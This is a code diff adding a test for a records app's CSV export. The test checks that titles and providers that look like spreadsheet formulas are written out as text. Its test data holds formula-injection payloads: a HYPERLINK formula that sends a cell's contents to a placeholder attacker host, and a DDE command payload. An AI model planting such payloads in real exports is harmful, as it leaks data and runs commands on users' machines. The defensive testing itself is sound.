@@ -359,3 +359,26 @@ def test_notes_that_name_a_patient_are_pointed_at_before_saving(alice_client, al
     assert confirmed.status_code == 302
     assert clean.status_code == 302
     assert LearningActivity.objects.for_user(alice).count() == 2
+
+
+def test_the_audit_packet_csv_cannot_run_formulas(alice_client, alice, ca_licence) -> None:
+    """Issue 11, finding 5: titles and providers that a spreadsheet would run as formulas are written as text
+    (a leading apostrophe); the values are otherwise unchanged."""
+    import csv
+
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
+    for n, title in enumerate(hostile):
+        services.activity_create(
+            user=alice,
+            data=services.ActivityInput(
+                title=title,
+                completed_on=date(2026, 6, 1 + n),
+                provider="=1+1",
+                awards=[("contact_hours", __import__("decimal").Decimal("8"))],
+            ),
+        )
+    archive = zipfile.ZipFile(io.BytesIO(alice_client.get(reverse("learning:packet_zip", args=[ca_licence.pk])).content))
+    rows = list(csv.DictReader(io.StringIO(archive.read("activities.csv").decode())))
+    assert sorted(row["title"] for row in rows) == sorted("'" + title for title in hostile)
+    assert {row["provider"] for row in rows} == {"'=1+1"}
+    assert all(row["completed_on"].startswith("2026-06-0") for row in rows)
